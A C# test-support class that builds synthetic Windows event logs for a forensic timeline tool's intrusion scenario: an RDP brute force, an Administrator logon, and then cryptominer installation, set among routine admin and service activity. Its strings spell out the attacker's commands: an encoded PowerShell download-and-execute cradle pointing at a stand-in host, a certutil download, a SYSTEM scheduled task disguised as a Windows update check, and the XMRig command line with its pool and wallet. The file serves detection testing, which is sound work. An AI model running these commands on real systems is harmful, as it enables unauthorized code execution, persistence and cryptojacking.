using System.Globalization;
using System.Text;

namespace Timeline.Tests.Support.Evtx;

/// <summary>
/// The events of <c>sample-logs/scenarios/windows-rdp-xmrig</c>: host WIN-SRV01 (standalone Windows Server,
/// UTC), an RDP brute force from 203.0.113.77 (NLA failures as LogonType 3 with <c>IpAddress=-</c>, then
/// LogonType 10 failures with the address), the Administrator logon, an encoded PowerShell download cradle,
/// certutil, a scheduled task and XMRig's WinRing0 driver service; around it, a legitimate admin's RDP
/// session five days earlier and routine service and task activity. Field names and orders as Windows writes
/// them (threat-notes §1.1, §1.4.6, §1.8). Deterministic: no clock, no random source.
/// </summary>
public static class WindowsRdpXmrigScenario
{
    public const string Host = "WIN-SRV01";
    public const string AttackerIp = "203.0.113.77";
    public const string AttackerWorkstation = "kali";
    public const string DropHost = "198.51.100.88";
    public const string Pool = "pool.minexmr.com:4444";
    public const string Wallet = "48uM5j8BN1Kxd9G5pdg9eb9ik9Woa7LWio49q2iuTJZX3ZFpD6P887Y6RT3oMTqut8FLAM7P2PUwfpHcPVSF56QcxJP7bDg";
    public const string TaskName = @"\WindowsUpdateCheck";
    public const string ServiceName = "WinRing0_1_2_0";
    public const string MinerDir = @"C:\ProgramData\svchost";
    public const string MinerPath = MinerDir + @"\xmrig.exe";
    public const string DriverPath = MinerDir + @"\WinRing0x64.sys";
    public const string MinerArgs = "-o " + Pool + " -u " + Wallet + " -k --donate-level=0";
    public const string AdminIp = "10.20.0.15";
    public const string AdminUser = "itadmin";
    public const string AdminWorkstation = "IT-WS-015";
    public const string CradleUrl = "http://" + DropHost + "/a.ps1";
    public const string ZipUrl = "http://" + DropHost + "/xmrig.zip";

    /// <summary>The cradle the encoded command carries, as script block logging records it.</summary>
    public const string Cradle = "(New-Object Net.WebClient).DownloadString('" + CradleUrl + "')|IEX";

    public static string EncodedCradle => Convert.ToBase64String(Encoding.Unicode.GetBytes(Cradle));

    /// <summary>The body of a.ps1 as the second script block shows it.</summary>
    public static readonly string Stage2 = string.Join("\r\n",
        "$d = '" + MinerDir + "'",
        "New-Item -ItemType Directory -Force -Path $d | Out-Null",
        "certutil -urlcache -split -f " + ZipUrl + " \"$d\\x.zip\" | Out-Null",
        "Expand-Archive -Path \"$d\\x.zip\" -DestinationPath $d -Force",
        "Remove-Item \"$d\\x.zip\"",
        "schtasks /create /tn WindowsUpdateCheck /tr \"" + MinerPath + " " + MinerArgs + "\" /sc onstart /ru SYSTEM /f | Out-Null",
        "Start-Process -FilePath \"$d\\xmrig.exe\" -ArgumentList '" + MinerArgs + "' -WindowStyle Hidden");

    public const string AdministratorSid = "S-1-5-21-3546829150-1862553184-2779468213-500";
    public const string AdminSid = "S-1-5-21-3546829150-1862553184-2779468213-1001";
    public const string AttackLogonId = "0x3e8a12";
    public const string AdminLogonId = "0x1b07c4";

    private static readonly Guid SecurityAuditing = new("54849625-5478-4994-a5ba-3e3b0328c30d");
    private static readonly Guid Scm = new("555908d1-a6d7-4695-8e1e-26931d2012f4");
    private static readonly Guid PowerShell = new("a0c1853b-5c40-4b15-8766-3cf1c58f985a");

    public static readonly DateTime AdminLogon = Utc(2026, 4, 9, 8, 2, 11, 4471023);
    public static readonly DateTime BruteForceStart = Utc(2026, 4, 14, 2, 11, 5, 1180442);
    public static readonly DateTime AttackLogon = Utc(2026, 4, 14, 2, 19, 44, 6021337);

    /// <summary>The scenario's files (relative to its folder), each with its events in record order and its first record id.</summary>
    public static IReadOnlyList<(string File, ulong FirstRecordId, IReadOnlyList<WinEvent> Events)> Files() =>
    [
        ("Security.evtx", 48211, Sorted(Security())),
        ("System.evtx", 10422, Sorted(SystemLog())),
        ("Microsoft-Windows-PowerShell%4Operational.evtx", 1873, Sorted(PowerShellLog())),
    ];

    /// <summary>Writes the files into <paramref name="folder"/> (templated Binary XML, as Windows does).</summary>
    public static void Write(string folder)
    {
        foreach (var (file, first, events) in Files())
            EvtxWriter.WriteFile(Path.Combine(folder, file), events, new EvtxWriterOptions { FirstRecordId = first });
    }

    private static List<WinEvent> Sorted(IEnumerable<WinEvent> events) => events.OrderBy(e => e.TimeCreated).ToList();

    private static DateTime Utc(int y, int mo, int d, int h, int mi, int s, int ticks) =>
        new DateTime(y, mo, d, h, mi, s, DateTimeKind.Utc).AddTicks(ticks);

    private static IEnumerable<WinEvent> Security()
    {
        // Routine: the machine account's service logons every few hours, across the whole window.
        for (var day = 8; day <= 14; day++)
        {
            foreach (var hour in new[] { 0, 6, 12, 18 })
            {
                var t = Utc(2026, 4, day, hour, 0, 3, (day * 7919) + (hour * 104729));
                if (t > AttackLogon.AddHours(1)) continue;
                yield return Logon(t, "S-1-5-18", "WIN-SRV01$", "WORKGROUP", "0x3e7", 5, "Advapi  ", "Negotiate", "-", "-", "-",
                    "0x2c4", @"C:\Windows\System32\services.exe", tid: 700 + (uint)hour);
            }
        }

        // 9 April: the administrator's own RDP session from the IT workstation (NLA: a type 3 logon, then type 10).
        var a = AdminLogon;
        yield return Logon(a, "S-1-0-0", "-", "-", "0x0", 3, "NtLmSsp ", "NTLM", AdminWorkstation, AdminIp, "51022",
            "0x0", "-", targetSid: AdminSid, targetUser: AdminUser, targetLogonId: "0x1b0731", tid: 4412);
        yield return Logon(a.AddTicks(9_812_004), "S-1-5-18", "WIN-SRV01$", "WORKGROUP", "0x3e7", 10, "User32 ", "Negotiate", Host, AdminIp, "0",
            "0x4c8", @"C:\Windows\System32\svchost.exe", targetSid: AdminSid, targetUser: AdminUser, targetLogonId: AdminLogonId, tid: 4412);
        yield return SpecialPrivileges(a.AddTicks(9_812_900), AdminSid, AdminUser, AdminLogonId, 4412);
        yield return Process(a.AddMinutes(1).AddTicks(1_204_551), AdminSid, AdminUser, AdminLogonId, "0x1d24", @"C:\Windows\System32\ServerManager.exe",
            "\"C:\\Windows\\system32\\ServerManager.exe\"", @"C:\Windows\explorer.exe", "0x1a98", "%%1937", "S-1-16-12288");
        yield return Process(a.AddMinutes(6).AddTicks(6_655_201), AdminSid, AdminUser, AdminLogonId, "0x2130", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\"", @"C:\Windows\explorer.exe", "0x1a98", "%%1937", "S-1-16-12288");
        yield return Task(a.AddMinutes(14).AddTicks(221_094), AdminSid, AdminUser, AdminLogonId, @"\Backup\NightlyConfigExport",
            TaskXml("WIN-SRV01\\itadmin", "Export of the IIS and DNS configuration", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
                @"-NoProfile -File C:\Scripts\Export-Config.ps1", "<CalendarTrigger><StartBoundary>2026-04-09T23:30:00</StartBoundary><ScheduleByDay><DaysInterval>1</DaysInterval></ScheduleByDay></CalendarTrigger>"),
            "0x2130", "7836", "28147497671065");
        yield return Logoff(a.AddMinutes(38).AddTicks(3_001_876), AdminSid, AdminUser, AdminLogonId, 10);

        // Every night from the 9th: the admin's export task runs (batch logon, PowerShell with a script file).
        foreach (var (night, logonId) in NightlyRuns())
        {
            yield return Logon(night, "S-1-5-18", "WIN-SRV01$", "WORKGROUP", "0x3e7", 4, "Advapi  ", "Negotiate", "-", "-", "-",
                "0x5a0", @"C:\Windows\System32\svchost.exe", targetSid: AdminSid, targetUser: AdminUser, targetLogonId: logonId, tid: 1444);
            yield return Process(night.AddTicks(1_530_442), AdminSid, AdminUser, logonId, "0x" + (0x2400 + (night.Day * 8)).ToString("x", CultureInfo.InvariantCulture),
                @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -NoProfile -File C:\\Scripts\\Export-Config.ps1",
                @"C:\Windows\System32\svchost.exe", "0x5a0", "%%1936", "S-1-16-8192");
            yield return Logoff(night.AddSeconds(12).AddTicks(77_310), AdminSid, AdminUser, logonId, 4);
        }

        // 14 April 02:11: NLA failures (type 3, no address, the client names itself "kali"), users from a list.
        string[] users = ["administrator", "admin", "Administrator", "user", "test", "administrador", "backup", "scanner", "rdp", "support"];
        var t0 = BruteForceStart;
        var n = 0;
        for (var i = 0; i < 42; i++, n++)
        {
            var user = users[i % users.Length];
            var exists = user.Equals("administrator", StringComparison.OrdinalIgnoreCase);
            yield return Failure(t0.AddTicks((long)i * 61_300_000 + ((i * 7919) % 1_000_000)), user, exists ? "0xc000006a" : "0xc0000064", 3, "NtLmSsp ", "NTLM",
                AttackerWorkstation, "-", "-", "0x0", "-", 5000 + (uint)(i % 7));
        }
        // 02:15: the tool falls back to RDP without NLA: type 10 failures that carry the address.
        var t1 = t0.AddSeconds(260);
        for (var i = 0; i < 14; i++, n++)
        {
            yield return Failure(t1.AddTicks((long)i * 14_720_000 + ((i * 104729) % 1_000_000)), "Administrator", "0xc000006a", 10, "User32 ", "Negotiate",
                Host, AttackerIp, (49152 + ((i * 3571) % 16000)).ToString(CultureInfo.InvariantCulture), "0x4c8", @"C:\Windows\System32\svchost.exe", 5012);
        }

        // 02:19:44: the guess works (NLA type 3 from the attacker's client, then the RDP session, type 10).
        var l = AttackLogon;
        yield return Logon(l.AddTicks(-8_442_117), "S-1-0-0", "-", "-", "0x0", 3, "NtLmSsp ", "NTLM", AttackerWorkstation, AttackerIp, "50611",
            "0x0", "-", targetSid: AdministratorSid, targetUser: "Administrator", targetLogonId: "0x3e89f0", tid: 5012);
        yield return Logon(l, "S-1-5-18", "WIN-SRV01$", "WORKGROUP", "0x3e7", 10, "User32 ", "Negotiate", Host, AttackerIp, "0",
            "0x4c8", @"C:\Windows\System32\svchost.exe", targetSid: AdministratorSid, targetUser: "Administrator", targetLogonId: AttackLogonId, tid: 5012);
        yield return SpecialPrivileges(l.AddTicks(1_004), AdministratorSid, "Administrator", AttackLogonId, 5012);

        // 02:21: execution and persistence.
        var x = l.AddSeconds(86).AddTicks(4_410_923);
        yield return Process(x, AdministratorSid, "Administrator", AttackLogonId, "0x1f5c", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -nop -w hidden -enc " + EncodedCradle, @"C:\Windows\explorer.exe", "0x1b2c", "%%1937", "S-1-16-12288");
        yield return Process(x.AddSeconds(3).AddTicks(1_202_144), AdministratorSid, "Administrator", AttackLogonId, "0x21e8", @"C:\Windows\System32\certutil.exe",
            "\"C:\\Windows\\system32\\certutil.exe\" -urlcache -split -f " + ZipUrl + " " + MinerDir + "\\x.zip", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "0x1f5c", "%%1937", "S-1-16-12288");
        var s = x.AddSeconds(29).AddTicks(7_730_019);
        yield return Process(s, AdministratorSid, "Administrator", AttackLogonId, "0x2204", @"C:\Windows\System32\schtasks.exe",
            "\"C:\\Windows\\system32\\schtasks.exe\" /create /tn WindowsUpdateCheck /tr \"" + MinerPath + " " + MinerArgs + "\" /sc onstart /ru SYSTEM /f",
            @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "0x1f5c", "%%1937", "S-1-16-12288");
        yield return Task(s.AddTicks(1_655_310), AdministratorSid, "Administrator", AttackLogonId, TaskName,
            TaskXml("WIN-SRV01\\Administrator", null, MinerPath, MinerArgs, "<BootTrigger><Enabled>true</Enabled></BootTrigger>", runAsSystem: true), "0x2204", "8028", "28147497671066");
        var m = s.AddSeconds(4).AddTicks(2_090_551);
        yield return Process(m, AdministratorSid, "Administrator", AttackLogonId, "0x2290", MinerPath,
            "\"" + MinerPath + "\" " + MinerArgs, @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "0x1f5c", "%%1937", "S-1-16-12288");
        yield return ServiceInstalled(m.AddTicks(9_310_442), AdministratorSid, "Administrator", AttackLogonId);
    }

    /// <summary>When XMRig installed its driver service (System 7045 and Security 4697 share it).</summary>
    public static DateTime DriverInstall
    {
        get
        {
            var x = AttackLogon.AddSeconds(86).AddTicks(4_410_923);
            return x.AddSeconds(29).AddTicks(7_730_019).AddSeconds(4).AddTicks(2_090_551).AddTicks(9_310_442);
        }
    }

    /// <summary>23:30 each night from 9 to 13 April (the task's trigger), with the batch logon id of the run.</summary>
    private static IEnumerable<(DateTime Time, string LogonId)> NightlyRuns() =>
        Enumerable.Range(9, 5).Select(day => (Utc(2026, 4, day, 23, 30, 0, 412_000 + (day * 3001)), "0x" + (0x2a1f00 + (day * 0x1c4)).ToString("x", CultureInfo.InvariantCulture)));

    private const string PerfScript = "Get-Counter -Counter '\\Processor(_Total)\\% Processor Time','\\Memory\\Available MBytes' -SampleInterval 5 -MaxSamples 1 | "
        + "ForEach-Object { $_.CounterSamples | Select-Object Path, CookedValue } | ConvertTo-Json -Compress";

    private const string ExportScript = "Import-Module WebAdministration\r\n"
        + "$stamp = Get-Date -Format yyyyMMdd\r\n"
        + "Get-WebConfiguration -Filter /system.applicationHost/sites -PSPath IIS:\\ | Export-Clixml \"D:\\Backup\\iis-$stamp.xml\"\r\n"
        + "Export-DnsServerZone -Name corp.example -FileName \"backup\\corp.example-$stamp.dns\"";

    private static IEnumerable<WinEvent> SystemLog()
    {
        // Routine service state changes (7036) and one ordinary service install (7045) before the incident.
        (string Service, string State)[] routine =
        [
            ("Windows Update", "running"), ("Windows Update", "stopped"), ("Background Intelligent Transfer Service", "running"),
            ("Background Intelligent Transfer Service", "stopped"), ("WinHTTP Web Proxy Auto-Discovery Service", "running"),
            ("Windows Modules Installer", "running"), ("Windows Modules Installer", "stopped"), ("Software Protection", "running"),
            ("Software Protection", "stopped"),
        ];
        var i = 0;
        for (var day = 8; day <= 14; day++)
        {
            for (var k = 0; k < routine.Length; k++, i++)
            {
                var t = Utc(2026, 4, day, 1 + (k * 2), (k * 13) % 60, (k * 7) % 60, (i * 104729) % 10_000_000);
                if (t > DriverInstall.AddHours(2)) continue;
                yield return ServiceState(t, routine[k].Service, routine[k].State);
            }
        }
        yield return new WinEvent
        {
            Provider = "Service Control Manager", ProviderGuid = Scm, EventSourceName = "Service Control Manager", EventId = 7045, Qualifiers = 16384, Level = 4, Keywords = 0x8080000000000000,
            TimeCreated = AdminLogon.AddMinutes(21).AddTicks(5_130_227), ProcessId = 648, ThreadId = 2204, Channel = "System", Computer = Host,
            UserId = AdminSid,
            Data = [new("ServiceName", "Google Update Service (gupdate)"), new("ImagePath", "\"C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe\" /svc"),
                new("ServiceType", "user mode service"), new("StartType", "auto start"), new("AccountName", "LocalSystem")],
        };

        // The attack: XMRig's MSR driver service (kernel driver, demand start, no account), then it runs.
        yield return new WinEvent
        {
            Provider = "Service Control Manager", ProviderGuid = Scm, EventSourceName = "Service Control Manager", EventId = 7045, Qualifiers = 16384, Level = 4, Keywords = 0x8080000000000000,
            TimeCreated = DriverInstall, ProcessId = 648, ThreadId = 6124, Channel = "System", Computer = Host, UserId = AdministratorSid,
            Data = [new("ServiceName", ServiceName), new("ImagePath", DriverPath), new("ServiceType", "kernel mode driver"),
                new("StartType", "demand start"), new("AccountName", "")],
        };
        yield return ServiceState(DriverInstall.AddTicks(31_205), ServiceName, "running");
    }

    private static IEnumerable<WinEvent> PowerShellLog()
    {
        // A monitoring agent's PowerShell runspace samples performance counters every 30 minutes (script block logging is on for all blocks).
        var agentId = 0;
        for (var t = Utc(2026, 4, 8, 0, 0, 2, 118_004); t < DriverInstall.AddHours(1); t = t.AddMinutes(30).AddTicks(((agentId * 7919) % 90_000) - 45_000), agentId++)
            yield return ScriptBlock(t, "S-1-5-18", 5, PerfScript, "{" + new Guid(agentId, 0x7a41, 0x4c0e, 0x8b, 0x12, 0x6d, 0x5e, 0x4f, 0x30, 0x21, 0x19).ToString() + "}", 3312, 3360,
                @"C:\Program Files\ExampleMonitor\scripts\perf.ps1");

        // The administrator's ordinary console session.
        yield return ScriptBlock(AdminLogon.AddMinutes(7).AddTicks(2_004_118), AdminSid, 5, "Get-Service | Where-Object Status -eq 'Stopped' | Select-Object Name, DisplayName",
            "{3f2a8c1e-5b7d-4e09-9a61-2c4d8e0f7b15}", 8496, 7120);
        yield return ScriptBlock(AdminLogon.AddMinutes(9).AddTicks(8_441_370), AdminSid, 5, "Get-WindowsFeature | Where-Object Installed",
            "{b7d1e0a4-2c3f-4a18-8e5d-9f6a7b3c2d10}", 8496, 7120);

        foreach (var (night, _) in NightlyRuns())
            yield return ScriptBlock(night.AddTicks(9_882_015), AdminSid, 5, ExportScript,
                "{" + new Guid(night.Day, 0x51c3, 0x4d2e, 0x9a, 0x7b, 0x1c, 0x2d, 0x3e, 0x4f, 0x50, 0x61).ToString() + "}", 9200 + (uint)night.Day, 9300 + (uint)night.Day, @"C:\Scripts\Export-Config.ps1");

        // The attack: the decoded cradle (logged as suspicious, level 3) and the script it fetched.
        var x = AttackLogon.AddSeconds(86).AddTicks(4_410_923);
        yield return ScriptBlock(x.AddTicks(8_730_551), AdministratorSid, 3, Cradle, "{9c4e7b2a-1d3f-4c6b-8a5e-0f2d7c9b1a34}", 8028, 8032);
        yield return ScriptBlock(x.AddTicks(9_902_106), AdministratorSid, 3, Stage2, "{e1a7c3d5-4b2f-4e8a-9d6c-7f0b2a5e3c81}", 8028, 8032);
    }

    private static WinEvent ScriptBlock(DateTime t, string sid, byte level, string text, string id, uint pid, uint tid, string path = "") => new()
    {
        Provider = "Microsoft-Windows-PowerShell", ProviderGuid = PowerShell, EventId = 4104, Version = 1, Level = level, Task = 2, Opcode = 15,
        Keywords = 0x0, TimeCreated = t, ProcessId = pid, ThreadId = tid, Channel = "Microsoft-Windows-PowerShell/Operational", Computer = Host, UserId = sid,
        Data = [new("MessageNumber", "1"), new("MessageTotal", "1"), new("ScriptBlockText", text), new("ScriptBlockId", id), new("Path", path)],
    };

    private static WinEvent ServiceState(DateTime t, string service, string state) => new()
    {
        Provider = "Service Control Manager", ProviderGuid = Scm, EventSourceName = "Service Control Manager", EventId = 7036, Qualifiers = 16384, Level = 4, Keywords = 0x8080000000000000,
        TimeCreated = t, ProcessId = 648, ThreadId = 2240, Channel = "System", Computer = Host,
        Data = [new("param1", service), new("param2", state), new("Binary", ServiceBinary(service, state))],
    };

    /// <summary>7036's Binary: the service key name and the state, UTF-16LE, as hex (how Windows fills it).</summary>
    private static string ServiceBinary(string service, string state)
    {
        var key = service.Replace(" ", "", StringComparison.Ordinal);
        if (key.Length > 16) key = key[..16];
        return Convert.ToHexString(Encoding.Unicode.GetBytes(key + "/" + (state == "running" ? "4" : "1") + "\0"));
    }

    private static WinEvent Sec(DateTime t, ushort id, byte version, ushort task, bool success, uint tid, params KeyValuePair<string, string>[] data) => new()
    {
        Provider = "Microsoft-Windows-Security-Auditing", ProviderGuid = SecurityAuditing, EventId = id, Version = version, Level = 0, Task = task, Opcode = 0,
        Keywords = success ? 0x8020000000000000 : 0x8010000000000000, TimeCreated = t, ProcessId = 668, ThreadId = tid,
        Channel = "Security", Computer = Host, Data = data,
    };

    private static KeyValuePair<string, string> D(string name, string value) => new(name, value);

    private static WinEvent Logon(DateTime t, string subjectSid, string subjectUser, string subjectDomain, string subjectLogonId, int type,
        string process, string package, string workstation, string ip, string port, string pid, string processName,
        string targetSid = "S-1-5-18", string targetUser = "SYSTEM", string targetLogonId = "0x3e7", uint tid = 712)
    {
        var elevated = targetUser is "Administrator" or AdminUser or "SYSTEM";
        return Sec(t, 4624, 2, 12544, true, tid,
            D("SubjectUserSid", subjectSid), D("SubjectUserName", subjectUser), D("SubjectDomainName", subjectDomain), D("SubjectLogonId", subjectLogonId),
            D("TargetUserSid", targetSid), D("TargetUserName", targetUser), D("TargetDomainName", targetUser == "SYSTEM" ? "NT AUTHORITY" : Host),
            D("TargetLogonId", targetLogonId), D("LogonType", type.ToString(CultureInfo.InvariantCulture)), D("LogonProcessName", process),
            D("AuthenticationPackageName", package), D("WorkstationName", workstation), D("LogonGuid", "{00000000-0000-0000-0000-000000000000}"),
            D("TransmittedServices", "-"), D("LmPackageName", package == "NTLM" ? "NTLM V2" : "-"), D("KeyLength", package == "NTLM" ? "128" : "0"),
            D("ProcessId", pid), D("ProcessName", processName), D("IpAddress", ip), D("IpPort", port), D("ImpersonationLevel", "%%1833"),
            D("RestrictedAdminMode", type == 10 ? "%%1843" : "-"), D("TargetOutboundUserName", "-"), D("TargetOutboundDomainName", "-"),
            D("VirtualAccount", "%%1843"), D("TargetLinkedLogonId", "0x0"), D("ElevatedToken", elevated ? "%%1842" : "%%1843"));
    }

    private static WinEvent Failure(DateTime t, string user, string subStatus, int type, string process, string package, string workstation,
        string ip, string port, string pid, string processName, uint tid) =>
        Sec(t, 4625, 0, 12544, false, tid,
            D("SubjectUserSid", type == 10 ? "S-1-5-18" : "S-1-0-0"), D("SubjectUserName", type == 10 ? "WIN-SRV01$" : "-"),
            D("SubjectDomainName", type == 10 ? "WORKGROUP" : "-"), D("SubjectLogonId", type == 10 ? "0x3e7" : "0x0"),
            D("TargetUserSid", "S-1-0-0"), D("TargetUserName", user), D("TargetDomainName", type == 10 ? Host : ""),
            D("Status", "0xc000006d"), D("FailureReason", "%%2313"), D("SubStatus", subStatus), D("LogonType", type.ToString(CultureInfo.InvariantCulture)),
            D("LogonProcessName", process), D("AuthenticationPackageName", package), D("WorkstationName", workstation),
            D("TransmittedServices", "-"), D("LmPackageName", "-"), D("KeyLength", "0"), D("ProcessId", pid), D("ProcessName", processName),
            D("IpAddress", ip), D("IpPort", port));

    private static WinEvent SpecialPrivileges(DateTime t, string sid, string user, string logonId, uint tid) =>
        Sec(t, 4672, 0, 12548, true, tid,
            D("SubjectUserSid", sid), D("SubjectUserName", user), D("SubjectDomainName", Host), D("SubjectLogonId", logonId),
            D("PrivilegeList", "SeSecurityPrivilege\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\tSeDelegateSessionUserImpersonatePrivilege"));

    private static WinEvent Logoff(DateTime t, string sid, string user, string logonId, int type) =>
        Sec(t, 4634, 0, 12545, true, 6610,
            D("TargetUserSid", sid), D("TargetUserName", user), D("TargetDomainName", Host), D("TargetLogonId", logonId), D("LogonType", type.ToString(CultureInfo.InvariantCulture)));

    private static WinEvent Process(DateTime t, string sid, string user, string logonId, string newPid, string image, string commandLine,
        string parent, string parentPid, string elevation, string label) =>
        Sec(t, 4688, 2, 13312, true, 7412,
            D("SubjectUserSid", sid), D("SubjectUserName", user), D("SubjectDomainName", Host), D("SubjectLogonId", logonId),
            D("NewProcessId", newPid), D("NewProcessName", image), D("TokenElevationType", elevation), D("ProcessId", parentPid),
            D("CommandLine", commandLine), D("TargetUserSid", "S-1-0-0"), D("TargetUserName", "-"), D("TargetDomainName", "-"),
            D("TargetLogonId", "0x0"), D("ParentProcessName", parent), D("MandatoryLabel", label));

    private static WinEvent Task(DateTime t, string sid, string user, string logonId, string name, string xml, string clientPid, string parentPid, string startKey) =>
        Sec(t, 4698, 1, 12804, true, 6180,
            D("SubjectUserSid", sid), D("SubjectUserName", user), D("SubjectDomainName", Host), D("SubjectLogonId", logonId),
            D("TaskName", name), D("TaskContent", xml), D("ClientProcessStartKey", startKey),
            D("ClientProcessId", Convert.ToUInt32(clientPid, 16).ToString(CultureInfo.InvariantCulture)), D("ParentProcessId", parentPid),
            D("RpcCallClientLocality", "0"), D("FQDN", Host));

    /// <summary>Task Scheduler XML as 4698 carries it (UTF-16 declaration, two-space indent, CRLF).</summary>
    private static string TaskXml(string author, string? description, string command, string arguments, string trigger, bool runAsSystem = false)
    {
        var principal = runAsSystem
            ? "<Principal id=\"Author\">\r\n      <UserId>S-1-5-18</UserId>\r\n      <RunLevel>HighestAvailable</RunLevel>\r\n    </Principal>"
            : "<Principal id=\"Author\">\r\n      <UserId>" + AdminSid + "</UserId>\r\n      <LogonType>Password</LogonType>\r\n      <RunLevel>LeastPrivilege</RunLevel>\r\n    </Principal>";
        var info = "    <Author>" + author + "</Author>\r\n" + (description is null ? "" : "    <Description>" + description + "</Description>\r\n");
        return "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n"
            + "<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n"
            + "  <RegistrationInfo>\r\n" + info + "    <URI>" + (description is null ? TaskName : @"\Backup\NightlyConfigExport") + "</URI>\r\n  </RegistrationInfo>\r\n"
            + "  <Triggers>\r\n    " + trigger + "\r\n  </Triggers>\r\n"
            + "  <Settings>\r\n    <MultipleInstancesPolicy>IgnoreNew</MultipleInstancesPolicy>\r\n    <DisallowStartIfOnBatteries>false</DisallowStartIfOnBatteries>\r\n"
            + "    <ExecutionTimeLimit>" + (runAsSystem ? "PT0S" : "PT72H") + "</ExecutionTimeLimit>\r\n    <Enabled>true</Enabled>\r\n  </Settings>\r\n"
            + "  <Actions Context=\"Author\">\r\n    <Exec>\r\n      <Command>" + command + "</Command>\r\n      <Arguments>" + arguments + "</Arguments>\r\n    </Exec>\r\n  </Actions>\r\n"
            + "  <Principals>\r\n    " + principal + "\r\n  </Principals>\r\n</Task>";
    }

    private static WinEvent ServiceInstalled(DateTime t, string sid, string user, string logonId) =>
        Sec(t, 4697, 1, 12289, true, 6124,
            D("SubjectUserSid", sid), D("SubjectUserName", user), D("SubjectDomainName", Host), D("SubjectLogonId", logonId),
            D("ServiceName", ServiceName), D("ServiceFileName", DriverPath), D("ServiceType", "0x1"), D("ServiceStartType", "3"),
            D("ServiceAccount", ""), D("ClientProcessStartKey", "28147497671066"), D("ClientProcessId", "8848"), D("ParentProcessId", "8028"));
}
